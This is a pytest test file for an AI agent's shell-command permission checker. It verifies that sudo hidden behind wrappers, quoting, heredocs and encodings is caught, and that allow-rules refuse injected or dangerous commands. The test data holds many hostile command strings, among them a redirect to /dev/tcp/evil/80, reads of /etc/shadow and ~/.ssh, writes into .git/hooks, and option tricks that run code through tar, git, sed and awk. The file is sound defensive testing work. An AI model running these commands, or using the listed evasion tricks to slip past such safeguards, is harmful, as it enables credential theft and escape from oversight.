"""The parts of command lines, and which of them rules cover."""

from pathlib import Path

import pytest

from acp_agent.disk import HERE
from acp_agent.safety.access import Allow
from acp_agent.safety.folders.paths import Roots
from acp_agent.safety.globs import matches
from acp_agent.safety.lines.arguments import forbidden_argument, program_names
from acp_agent.safety.lines.dangerous import dangers_of
from acp_agent.safety.lines.examine import examine
from acp_agent.safety.lines.examined import Examined, Match
from acp_agent.safety.lines.wrappers import inner_commands
from tests.tables import packed, table

ALLOWED = ["cargo *", "git *", "npm test", "python3 *", "make *", "sed *", "find *", "tar *", "sort *", "awk *", "rg *",
           "timeout *", "env *", "xargs *", "bash *", "echo *", "tee *", "cat *", "cp *", "go *", "sudo *", "rm *",
           "curl *", "wget *", "ssh *", "man *", "date *", "dmesg *", "zip *", "rsync *", "pytest *"]  # fmt: skip


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("commands")
    (base / "outside").mkdir()
    root = base / "project"
    (root / "src" / "deep").mkdir(parents=True)
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "a.txt").write_text("a\n")
    (root / "out").symlink_to(base / "outside")
    (root / "hooks").symlink_to(root / ".git" / "hooks")
    return root


def examined(line: str, project: Path) -> Examined:
    return examine(line, Roots(project), project)


def globs(*patterns: str) -> Match:
    return lambda text: next((pattern for pattern in patterns if matches(pattern, text)), None)


# --- deny: what is run is among the candidates ------------------------------------------------------------------------

HIDES_SUDO = packed(r"""
sudo x ¦   sudo x ¦ sudo	x ¦ su""do x ¦ s\udo x ¦ 'sudo' x ¦ "sudo" x ¦ $'sudo' x ¦ $'\x73udo' x ¦ $'\163udo' x
/usr/bin/sudo x ¦ ../../usr/bin/sudo x ¦ A=1 sudo x ¦ A=1 B="2 3" sudo x ¦ env sudo x ¦ env A=1 sudo x
env -i A=1 sudo x ¦ env -u A sudo x ¦ env -S 'sudo x' ¦ env -C /tmp sudo x ¦ nohup sudo x ¦ nohup sudo x &
timeout 5 sudo x ¦ timeout -k 5 -s KILL 5 sudo x ¦ timeout --signal=KILL 5 sudo x ¦ nice sudo x ¦ nice -n 5 sudo x
nice -5 sudo x ¦ ionice -c 3 sudo x ¦ stdbuf -oL sudo x ¦ stdbuf -o L sudo x ¦ setsid sudo x ¦ setsid -f sudo x
time sudo x ¦ time -p sudo x ¦ time for i in a; do sudo x; done ¦ time { sudo x; } ¦ coproc { sudo x; }
command sudo x ¦ command -p sudo x ¦ builtin command sudo x ¦ exec sudo x ¦ exec -a y sudo x ¦ xargs sudo x
xargs -n 1 -I{} sudo x ¦ echo y | xargs -0 sudo x ¦ find . -exec sudo x \; ¦ find . -name y -execdir sudo x +
find . -ok sudo x ';' ¦ fd y -x sudo x ¦ bash -c 'sudo x' ¦ bash -c "sudo x" ¦ sh -ec 'a; sudo x' ¦ bash -lc 'sudo x'
zsh -c 'sudo x' ¦ dash -c 'sudo x' ¦ bash --norc -c 'sudo x' ¦ bash -o pipefail -c 'sudo x'
bash -c 'bash -c "sudo x"' ¦ bash -c "bash -c 'a && sudo x'" ¦ /bin/sh -c 'sudo x' ¦ eval 'sudo x' ¦ eval sudo x
eval "sudo" x ¦ su -c 'sudo x' ¦ su root -c 'sudo x' ¦ doas sudo x ¦ watch -n 1 sudo x ¦ watch 'sudo x'
parallel sudo x ¦ flock f sudo x ¦ flock f -c 'sudo x' ¦ script -c 'sudo x' ¦ ssh host 'sudo x' ¦ chroot /x sudo x
strace -f sudo x ¦ busybox sudo x ¦ coproc sudo x ¦ ! sudo x ¦ (sudo x) ¦ ((sudo x) ) ¦ a $((sudo x) ) ¦ { sudo x; }
a; sudo x ¦ a && sudo x ¦ a || sudo x ¦ a | sudo x ¦ a |& sudo x ¦ a & sudo x ¦ a $(sudo x) ¦ a "$(sudo x)"
a `sudo x` ¦ a <(sudo x) ¦ a > >(sudo x) ¦ a=$(sudo x) ¦ a=$(sudo x) b ¦ export a=$(sudo x) ¦ [[ -n $(sudo x) ]]
if a; then sudo x; fi ¦ if sudo x; then a; fi ¦ while sudo x; do a; done ¦ for i in a b; do sudo x; done
for ((i=0;i<1;i++)); do sudo x; done ¦ case a in a) sudo x;; esac ¦ f() { sudo x; } ¦ function f { sudo x; }
bash <<< 'sudo x' ¦ echo 'sudo x' | sh ¦ echo 'sudo x' | bash -s ¦ trap 'sudo x' EXIT
timeout 5 nice env A=1 bash -c 'nohup sudo x' ¦ sudo x > f 2>&1 ¦ > f sudo x ¦ sudo 2>/dev/null x ¦ env >f A=1 sudo x
env >f 2>g sudo x ¦ {sudo,x,a} ¦ {sudo,x{f,v},a} ¦ sudo${IFS}x ¦ nice$IFS-5$IFS'sudo'${IFS}x ¦ uv run sudo x
poetry run sudo x ¦ bundle exec sudo x ¦ npx -c 'sudo x' ¦ perf stat sudo x ¦ fish -c 'sudo x' ¦ tcsh -c 'sudo x'
firejail sudo x ¦ tmux new sudo x
""")

TEXTS_OF_SUDO = [
    "bash <<EOF\nsudo x\nEOF", "bash <<'EOF' | cat\nsudo x\nEOF", "cat <<EOF\n$(sudo x)\nEOF", "sudo \\\n x",
    "su\\\ndo x", "a\nsudo x", "a # b\nsudo x", "'unclosed\nsudo x", 'if a; then sudo x; "', "a ; sudo x (",
    "a" * 11_000 + "; sudo x", "a; " * 30_000 + "sudo x", "cat <<EOF | sh\nsudo x\nEOF",
    "cat <<'EOF' | bash -s\necho x; sudo x\nEOF",
]  # fmt: skip


@table("line", HIDES_SUDO + TEXTS_OF_SUDO)
def test_a_denied_program_is_among_the_candidates(line: str, project: Path) -> None:
    assert any(matches("sudo x*", " ".join(text.split())) for text in examined(line, project).candidates)


@pytest.mark.parametrize("line", [
    "echo 'a; sudo x'", "git commit -m 'sudo x'", "cat <<EOF\nsudo x\nEOF", "echo a # sudo x", "echo sudo x", "ls sudo",
    "echo {sudo,x}", "grep sudo a", "uv sync",
])  # fmt: skip
def test_text_that_only_names_a_program_is_no_command(line: str, project: Path) -> None:
    found = examined(line, project)
    assert not any(matches("sudo*", text) for text in found.candidates)
    assert not any(part.words and part.words[0] == "sudo" for part in found.parts)


@pytest.mark.parametrize("wrapper", ["sudo ", "timeout 1 ", "env ", "xargs "])
def test_deep_nesting_is_not_understood_and_takes_no_time_to_speak_of(wrapper: str, project: Path) -> None:
    found = examined(wrapper * (9_000 // len(wrapper)) + "x", project)
    assert not found.understood
    assert len(found.parts) < 50 and len(found.candidates) < 500


# --- allow ----------------------------------------------------------------------------------------------------------

COVERED = packed(r"""
cargo build ¦ cargo build --release ¦ cargo  build ¦ cargo "build" ¦ car\go build ¦ cargo build && git commit -m 'a b'
cargo build; ls ¦ cargo build | head -n 5 ¦ (cd src && cargo build) ¦ timeout 5 cargo build
timeout -s KILL 5 cargo build ¦ nice -n 5 cargo build ¦ env CI=1 cargo build ¦ CI=1 cargo build ¦ LC_ALL=C sort a.txt
nohup cargo build ¦ bash -c 'cargo build' ¦ bash -c 'cargo build && ls' ¦ bash -ec 'cd src; cargo build'
command cargo build ¦ cargo build > log.txt ¦ cargo build > src/log.txt 2>&1 ¦ cargo build >> log.txt
cargo build 2> /dev/null ¦ cargo build < a.txt ¦ ! cargo build ¦ git log -c ¦ git log --oneline
git commit -m 'a; rm -rf /' ¦ git push -u origin main ¦ sed 's/a/b/g' a.txt ¦ sed -n '5,10p' a.txt
sed -e 's/a/b/' -e '3d' a.txt ¦ find src -name x ¦ tar tf a.tar ¦ sort -u a.txt ¦ awk '{ print $1 }' a.txt
rg --pretty foo ¦ rg -n foo ¦ go test ./... ¦ make test ¦ curl https://example.com/a ¦ wget https://example.com/a
rm a.txt ¦ cp a.txt src ¦ pytest -x -k foo ¦ date +%s ¦ zip a.zip a.txt ¦ rsync -a src deep ¦ man ls ¦ dmesg
npm test
""")

NOT_COVERED = packed(r"""
npm test x ¦ npm tes ¦ git 2>/dev/null -c x=y log ¦ ls 2>/dev/null /etc ¦ cd 2>/dev/null .. && ls ¦ cargo-evil build
/tmp/cargo build ¦ ./cargo build ¦ cargo build; evil ¦ cargo build && evil ¦ cargo build | evil ¦ cargo build & evil
cargo build & ¦ cargo build $(evil) ¦ cargo build `evil` ¦ cargo build $X ¦ cargo build "$X" ¦ cargo build ${X}
cargo build {a,b} ¦ cargo build *.txt ¦ cargo build ~/x ¦ cargo build <(evil) ¦ cargo build > $X
cargo build > /etc/passwd ¦ cargo build > ../x ¦ cargo build > out/x ¦ cargo build > .git/hooks/pre-commit
cargo build > hooks/pre-commit ¦ cargo build > .git/config ¦ cargo build >> .bashrc ¦ cargo build > .vscode/tasks.json
cargo build > /dev/tcp/evil/80 ¦ cargo build < /etc/shadow ¦ cargo build 2> ../x ¦ cargo build &> ../x
cargo build >| ../x ¦ cargo build <> ../x ¦ cargo build --manifest-path=/etc/x ¦ cargo build /etc/x ¦ cargo build ../x
cd src && cargo build ../../x ¦ cd .. && cargo build ¦ cd "$X" && cargo build ¦ cd out && cargo build
command cd src && cargo build .. ¦ pushd src && cargo build .. ¦ PATH=. cargo build ¦ LD_PRELOAD=./x.so cargo build
RUSTC_WRAPPER=./x cargo build ¦ GIT_SSH_COMMAND=./x git fetch ¦ IFS=x cargo build ¦ BASH_ENV=x bash -c 'cargo build'
env PATH=. cargo build ¦ env -S 'cargo build' ¦ env -u X evil ¦ env -C src cargo build ¦ X=1; cargo build
export X=1; cargo build ¦ X[0]=1 cargo build ¦ timeout 5 evil ¦ timeout 5 bash -c evil ¦ nohup evil ¦ bash -c 'evil'
bash -c 'cargo build; evil' ¦ bash -c "$X" ¦ bash script.sh --rcfile /etc/x ¦ bash --rcfile x -c 'cargo build'
xargs evil ¦ sudo evil ¦ sudo cargo build -- $X ¦ f() { evil; }; cargo build ¦ cargo() { evil; }; cargo build
alias cargo=evil; cargo build ¦ if cargo build; then ls; fi ¦ for i in a; do cargo build; done
while cargo build; do ls; done ¦ cargo build <<< x ¦ [[ -n $X ]] && cargo build ¦ a=(1 2) ¦ ((a=1)) ¦ cargo build;;
cargo build;& ¦ git -c core.pager=evil log ¦ git -C src log ¦ git --exec-path=evil log ¦ git --config-env=a=b log
git fetch --upload-pack=evil ¦ git clone ext::sh ¦ git diff --ext-diff ¦ git grep -Oevil x ¦ git config alias.x y
git rebase -x evil ¦ git rebase --exec evil ¦ git push --force ¦ git push -f ¦ git bisect run evil
git submodule update ¦ rg --pre evil x ¦ rg --pre=evil x ¦ rg -z x ¦ sed 's/a/b/e' a.txt ¦ sed 's/a/b/w x' a.txt
sed '1e evil' a.txt ¦ sed 'w x' a.txt ¦ sed -n '/x/w y' a.txt ¦ sed -i s/a/b/ a.txt ¦ sed -ni p a.txt
sed --in-place s/a/b/ a.txt ¦ sed --in s/a/b/ a.txt ¦ sed -f x a.txt ¦ sed -e p -e e a.txt ¦ sed --expression=e a.txt
awk 'BEGIN { system("evil") }' ¦ awk 'BEGIN { "evil" | getline }' ¦ awk '{ print > "x" }' a.txt
awk '{ print | "evil" }' a.txt ¦ awk -f x ¦ tar --checkpoint-action=exec=evil -cf a.tar a.txt
tar --checkpoint=1 --checkpoint-a=exec=evil -cf a.tar a.txt ¦ tar --to-command=evil -xf a.tar ¦ tar -I evil -xf a.tar
tar --use-compress-program=evil -xf a.tar ¦ tar -cf evil:x a.txt ¦ find . -delete ¦ find . -exec evil \;
find . -exec rm {} + ¦ find . -fprint x ¦ find . -fls x ¦ sort -o x a.txt ¦ sort -uo x a.txt ¦ sort --output=x a.txt
sort --compress-program=evil a.txt ¦ go test -exec evil ¦ go build -toolexec evil ¦ go vet -vettool=evil ¦ go run x.go
make SHELL=evil ¦ make -f x ¦ make --eval=x ¦ cargo --config x=y build ¦ cargo install evil
curl -o x https://example.com ¦ curl -sO https://example.com ¦ curl -K x ¦ curl -T a.txt https://example.com
curl -d @a.txt https://example.com ¦ curl file:///etc/passwd ¦ wget -O x https://example.com
wget --use-askpass=evil https://example.com ¦ rm -rf src ¦ rm -r src ¦ cp -t x a.txt ¦ pytest -c x ¦ pytest -p evil
date -s x ¦ date --set=x ¦ dmesg -C ¦ zip -TT evil a.zip a.txt ¦ rsync -e evil a b ¦ man -P evil ls ¦ man -H evil ls
python3 -c x ¦ python3 -m x ¦ echo x > a.txt ¦ cat a.txt > src/b.txt ¦ printf x > a.txt ¦ сargo build
cargo build“; evil
""")

NOT_COVERED_TEXTS = [
    "cargo build\revil", "cargo build\x0bevil", "cargo\u00a0build", "cargo build \u202etset", "cargo b\u200build",
    "cargo build\nevil", "cargo build \\\nevil $X", "cargo build <<EOF\nEOF", "cargo build 'x", "cargo build )",
    "cargo build >\nx", "cargo build > x\nevil", "cargo build \ud800", "cargo build \0", "cargo build " + "x" * 11_000,
    "", "   ",
]  # fmt: skip


@table("line", COVERED)
def test_rules_cover_what_is_understood_and_harmless(line: str, project: Path) -> None:
    found = examined(line, project)
    assert found.permitted_by(globs(*ALLOWED)), "\n".join(found.lines())


@table("line", NOT_COVERED + NOT_COVERED_TEXTS)
def test_rules_do_not_cover_more_than_they_say(line: str, project: Path) -> None:
    found = examined(line, project)
    assert not found.permitted_by(globs(*ALLOWED)), "\n".join(found.lines())
    assert not found.permitted_by(lambda text: any(matches(pattern, text) for pattern in ALLOWED))


@pytest.mark.parametrize(("line", "pattern"), [
    ("git -c x=y log", "git -c *"), ("git -c x=y log", "git -c x=y log"), ("find . -delete", "find * -delete"),
    ("rm -rf src", "rm -rf *"), ("sort -o x a.txt", "sort -o *"), ("sort --output=x a.txt", "sort --output=*"),
    ("python3 -m x", "python3 -m *"), ("sudo apt install x", "sudo apt install *"),
    ("find . -exec wc {} +", "find * -exec wc *"), ("xargs wc -l", "xargs wc *"), ("echo x > a.txt", "echo * > a.txt"),
    ("PATH=. cargo build", "PATH=. cargo *"), ("sed -i s/a/b/ a.txt", "sed -i s/a/b/ a.txt"),
    ("bash -c 'make x'", "make *"), ("cp a .git/hooks/x", "cp * .git/hooks/*"), ("cp a b", "cp *"),
    ("touch x", "touch *"), ("mv a .vscode/tasks.json", "mv * .vscode/*"), ("chmod u+x x", "chmod *"),
    ("cargo build", "cargo *"),
])  # fmt: skip
def test_a_rule_that_spells_it_covers_what_is_dangerous(line: str, pattern: str, project: Path) -> None:
    assert examined(line, project).permitted_by(globs(pattern))


@pytest.mark.parametrize(("line", "pattern"), [
    ("sudo rm x", "sudo rmdir *"), ("sudo rm x", "sudo *"), ("sudo rm x", "rm *"), ("git -c x=y log", "git *-c *"),
    ("rm -rf src", "rm -r *"), ("xargs rm", "xargs *"), ("xargs wc", "wc *"), ("anything", "*"), ("bash x.sh", "*"),
    ("cp a .git/hooks/x", "cp *"), ("mv a .vscode/tasks.json", "mv *"), ("touch .mcp.json", "touch *"),
    ("mkdir .idea", "mkdir *"), ("chmod u+x .git/hooks/x", "chmod *"), ("tee .envrc", "tee *"),
    ("install -D a .git/hooks/x", "install *"), ("dd if=a of=.git/config", "dd *"),
    ("cargo build --target-dir=.git/x", "cargo *"),
])  # fmt: skip
def test_a_rule_that_does_not_spell_it_does_not(line: str, pattern: str, project: Path) -> None:
    assert examined(line, project).permitted_by(globs(pattern)) == (line == "anything")


def test_what_the_judgement_allows_needs_no_rule(project: Path) -> None:
    found = examined("ls | head", project)
    assert isinstance(found.verdict, Allow)
    assert found.verdict.rule == "looks:ls; looks:head" and found.permitted_by(lambda text: None)


def test_the_explanation_is_a_tree(project: Path) -> None:
    told = examined("timeout 5 bash -c 'ls; sudo -n x'", project).lines()
    assert [len(line) - len(line.lstrip()) for line in told] == [0, 2, 4, 4, 6, 0]
    assert "wrapper:timeout" in told[0] and "looks:ls" in told[2] and "dangerous:sudo" in told[3]
    assert "risk high" in told[-1]


@pytest.mark.parametrize(("line", "names"), [
    ("git status && cargo test", ("git", "cargo")), ("timeout 5 make", ("timeout", "make")), ("./x.sh", ("./x.sh",)),
    ("ls *.txt", ("ls",)), ("$X", None), ("ls; $(x)", None), ("'unclosed", None),
])  # fmt: skip
def test_programs_are_named_or_not_known(line: str, names: tuple[str, ...] | None, project: Path) -> None:
    assert program_names(examined(line, project)) == names


@table(("line", "forbidden"), [
    ("cat /etc/passwd", True), ("cat /etc/../etc/passwd", True), ("cat /etcetera", False), ("cat ~/.ssh/id", True),
    ("cat $HOME/.ssh/id", True), ('cat "${HOME}/.ssh/id"', True), ("cat ~/.sshx", False), ("cat secret/x", True),
    ("cat src/../secret/x", True), ("cd src && cat ../secret/x", True), ("cat secretive", False),
    ("x --file=/etc/passwd", True), ("x -f/etc/passwd", True), ("x host:/etc/passwd", True), ("x if=/etc/passwd", True),
    ("x > /etc/passwd", True), ("x < /etc/passwd", True), ("x > ~/.ssh/id", True), ("bash -c 'cat /etc/passwd'", True),
    ("cat /e*c/passwd", True), ("cat '/etc/passwd", True), ("for i in /etc/passwd; do cat $i; done", True),
    ("x $(cat /etc/passwd)", True), ("git status", False), ("ls src", False),
])  # fmt: skip
def test_forbidden_paths_are_found_in_arguments(line: str, forbidden: bool, project: Path) -> None:
    found = forbidden_argument(examined(line, project), ["/etc", "~/.ssh", "secret"], Path("/home/me"), HERE)
    assert (found is not None) == forbidden


@pytest.mark.parametrize(("attack", "harmless"), [
    ("tar xIf sh a", "tar xzf a"), ("tar xPf a", "tar xf a"), ("git clone -u sh a", "git push -u a b"),
    ("git clone -c a=b x", "git clone x"), ("git reset --har", "git reset --soft"),
    ("git remote-ext a sh", "git remote"), ("git bundle create b x", "git show x"),
    ("npm -w a exec x", "npm -w a test"), ("pnpm --filter a exec x", "pnpm --filter a test"),
])  # fmt: skip
def test_what_hides_behind_options_must_be_spelled_out(attack: str, harmless: str) -> None:
    assert dangers_of(attack.split())
    assert not dangers_of(harmless.split())


@pytest.mark.parametrize("wrapper", ["setpriv --reuid 1", "prlimit", "gosu a", "su-exec a", "firejail", "valgrind"])
def test_a_program_behind_a_wrapper_is_found(wrapper: str) -> None:
    assert any(inner.words[:1] == ("rm",) for inner in inner_commands([*wrapper.split(), "rm", "a"]))
